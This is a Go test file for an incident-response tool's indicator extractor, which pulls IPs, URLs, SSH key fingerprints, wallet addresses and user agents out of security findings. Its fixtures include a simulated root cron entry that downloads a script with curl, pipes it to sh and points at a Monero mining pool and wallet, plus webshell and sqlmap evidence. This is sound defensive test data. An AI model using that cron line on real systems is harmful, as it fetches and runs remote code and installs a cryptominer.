package indicator

import (
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/yingji/yingji/internal/finding"
)

func find(inds []Indicator, kind, value string) *Indicator {
	for i := range inds {
		if inds[i].Kind == kind && inds[i].Value == value {
			return &inds[i]
		}
	}
	return nil
}

func TestExtract(t *testing.T) {
	pub, _, err := ed25519.GenerateKey(strings.NewReader(strings.Repeat("k", 64)))
	if err != nil {
		t.Fatal(err)
	}
	spk, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	keyLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(spk))) + " root@kali"
	// ssh-keygen -lf prints SHA256:<base64 of the SHA-256 of the blob, no padding>.
	blob := spk.Marshal()
	sum := sha256.Sum256(blob)
	wantFP := "SHA256:" + base64.RawStdEncoding.EncodeToString(sum[:])

	t0 := time.Date(2026, 11, 20, 3, 4, 5, 0, time.UTC)
	fs := []finding.Finding{
		{Rule: "logins.success_after_failures", Severity: finding.High, Time: &t0, Evidence: []finding.Evidence{
			{Path: "/var/log/auth.log", Line: 812, Excerpt: "Nov 20 03:04:05 web01 sshd[912]: Accepted password for root from 203.0.113.7 port 50122 ssh2",
				Fields: map[string]string{"src_ip": "203.0.113.7", "user": "root", "time": t0.Format(time.RFC3339)}},
		}},
		{Rule: "accounts.authorized_keys_recent", Severity: finding.Medium, Evidence: []finding.Evidence{
			{Path: "/root/.ssh/authorized_keys", Line: 2, Excerpt: keyLine},
		}},
		{Rule: "persistence.cron_user_exec", Severity: finding.High, Evidence: []finding.Evidence{
			{Path: "/var/spool/cron/crontabs/root", Excerpt: "*/5 * * * * curl -fsSL http://198.51.100.23:8080/x.sh | sh # pool stratum+tcp://pool.minexmr.invalid:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"},
		}},
		{Rule: "malware.webshell", Severity: finding.Critical, Evidence: []finding.Evidence{
			{Path: "/var/www/html/up/x.php", SHA256: "AB" + strings.Repeat("c", 62)},
		}},
		{Rule: "logs.detections", Severity: finding.High, Evidence: []finding.Evidence{
			{Fields: map[string]string{"src_ip": "10.1.2.3", "user_agent": "sqlmap/1.7", "values": "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3"}},
		}},
		// Below MinSeverity: the host's own listener is not an indicator.
		{Rule: "network.listeners", Severity: finding.Info, Evidence: []finding.Evidence{{Fields: map[string]string{"remote": "192.0.2.200"}}}},
	}
	inds := Extract(fs)

	ip := find(inds, KindIP, "203.0.113.7")
	if ip == nil || ip.Count != 1 || !ip.First.Equal(t0) || ip.Rules[0] != "logins.success_after_failures" || !strings.Contains(ip.Note, "documentation") {
		t.Errorf("attacker address: %+v", ip)
	}
	if find(inds, KindAccount, "root") == nil {
		t.Error("account root missing")
	}
	if k := find(inds, KindSSHKey, wantFP); k == nil || k.Note != "root@kali" {
		t.Errorf("ssh key %s missing or without comment: %+v", wantFP, inds)
	}
	for _, want := range [][2]string{
		{KindURL, "http://198.51.100.23:8080/x.sh"},
		{KindIP, "198.51.100.23"},
		{KindURL, "stratum+tcp://pool.minexmr.invalid:4444"},
		{KindDomain, "pool.minexmr.invalid"},
		{KindWallet, "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"},
		{KindFile, "ab" + strings.Repeat("c", 62)},
		{KindUserAgent, "sqlmap/1.7"},
		{KindWallet, "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"},
	} {
		if find(inds, want[0], want[1]) == nil {
			t.Errorf("missing %s %s", want[0], want[1])
		}
	}
	if in := find(inds, KindIP, "10.1.2.3"); in == nil || !strings.Contains(in.Note, "private") {
		t.Errorf("private address not noted: %+v", in)
	}
	// A base58 word with a wrong checksum is not a wallet.
	if find(inds, KindWallet, "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3") != nil {
		t.Error("base58 word with a bad checksum taken as a wallet")
	}
	if find(inds, KindIP, "192.0.2.200") != nil {
		t.Error("indicator taken from an informational finding")
	}
	// Addresses come first.
	if inds[0].Kind != KindIP {
		t.Errorf("first indicator is %s, want ip", inds[0].Kind)
	}
}

func TestBase58Check(t *testing.T) {
	for s, want := range map[string]bool{
		"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2": true, // P2PKH example of the Bitcoin wiki
		"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy": true, // P2SH example
		"1111111111111111111114oLvT2":        true, // the all-zero hash160
		"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3": false,
		"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNV0":  false, // 0 is not in the alphabet
	} {
		if got := base58Check(s); got != want {
			t.Errorf("base58Check(%s) = %v, want %v", s, got, want)
		}
	}
}

func FuzzExtract(f *testing.F) {
	f.Add("Accepted password for root from 203.0.113.7 port 22 http://x.invalid/a ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x")
	f.Fuzz(func(t *testing.T, s string) {
		inds := Extract([]finding.Finding{{Rule: "r", Severity: finding.High, Evidence: []finding.Evidence{{Excerpt: s, Fields: map[string]string{"src_ip": s, "user": s}}}}})
		for _, in := range inds {
			if in.Value == "" || in.Count != 1 || len(in.Value) > 2048 {
				t.Fatalf("bad indicator %+v", in)
			}
		}
	})
}
